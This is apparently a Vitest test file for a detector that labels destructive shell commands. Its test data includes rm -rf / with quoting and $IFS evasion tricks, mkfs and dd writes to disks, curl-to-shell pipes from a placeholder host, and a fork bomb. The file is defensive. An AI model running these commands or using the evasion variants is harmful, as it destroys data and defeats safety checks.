import { describe, expect, it } from "vitest";
import { shellSigns } from "./shell";

describe("signs of destruction in a command", () => {
  it.each([
    ["rm -rf /", "deletes_recursively"],
    ["rm -fr build", "deletes_recursively"],
    ["rm  -r   -f x", "deletes_recursively"],
    ["rm -Rf x", "deletes_recursively"],
    ["rm --recursive --force x", "deletes_recursively"],
    ["rm --rec --fo x", "deletes_recursively"],
    ["rm x -rf", "deletes_recursively"],
    ["sudo /usr/bin/rm -rf x", "deletes_recursively"],
    ["\\rm -rf x", "deletes_recursively"],
    ["r\\m -rf x", "deletes_recursively"],
    ["'rm' \"-rf\" x", "deletes_recursively"],
    ["r''m -rf x", "deletes_recursively"],
    ["rm$IFS-rf$IFS/x", "deletes_recursively"],
    ["ls && rm -rf x", "deletes_recursively"],
    ["ls; (rm -rf x)", "deletes_recursively"],
    ["ls\nrm -rf x", "deletes_recursively"],
    ["x=$(rm -rf x)", "deletes_recursively"],
    ['bash -c "rm -rf x"', "deletes_recursively"],
    ["find . -name x | xargs rm -rf", "deletes_recursively"],
    ["find / -delete", "deletes_recursively"],
    ["rm -r /", "deletes_recursively"],
    ["rm -r ~", "deletes_recursively"],
    ["rm -r $HOME", "deletes_recursively"],
    ["Remove-Item -Recurse -Force C:\\data", "deletes_recursively"],
    ["echo rm -rf /", "deletes_recursively"],
    ["mkfs /dev/sda1", "formats_disk"],
    ["mkfs.ext4 /dev/sda1", "formats_disk"],
    ["wipefs -a /dev/sda", "formats_disk"],
    ["dd if=/dev/zero of=/dev/sda", "writes_device"],
    ["dd of=/dev/nvme0n1 if=x", "writes_device"],
    ["cat x > /dev/sda", "writes_device"],
    ["cat x >/dev/sda", "writes_device"],
    ["cat x | tee /dev/sda", "writes_device"],
    ["curl -fsSL https://x.example.test | sh", "pipes_download_to_shell"],
    ["curl https://x.example.test|bash -s --", "pipes_download_to_shell"],
    ["wget -O - https://x.example.test | sudo bash", "pipes_download_to_shell"],
    ["curl https://x.example.test | tee log | python3", "pipes_download_to_shell"],
    ["bash <(curl -s https://x.example.test)", "pipes_download_to_shell"],
    ['sh -c "$(curl -fsSL https://x.example.test)"', "pipes_download_to_shell"],
    [":(){ :|:& };:", "fork_bomb"],
  ])("%s", (command, sign) => {
    expect(shellSigns(command)).toContain(sign);
  });

  it("include that a command is too long to be checked", () => {
    expect(shellSigns("a".repeat(200_001))).toEqual(["too_long_to_check"]);
  });

  it.each([
    "ls -la",
    "git log --oneline",
    "rm report.txt",
    "rm -f report.txt",
    "grep -rf patterns src",
    "dd if=/dev/zero of=disk.img",
    "echo hi > /dev/null",
    "cat x 2>/dev/null",
    "curl -O https://x.example.test/f",
    "curl https://x.example.test | jq .",
    "find . -name '*.ts'",
    "npm run format",
    "prettier --format x:",
    "echo information",
    "",
  ])("are not in: %s", (command) => {
    expect(shellSigns(command)).toEqual([]);
  });
});
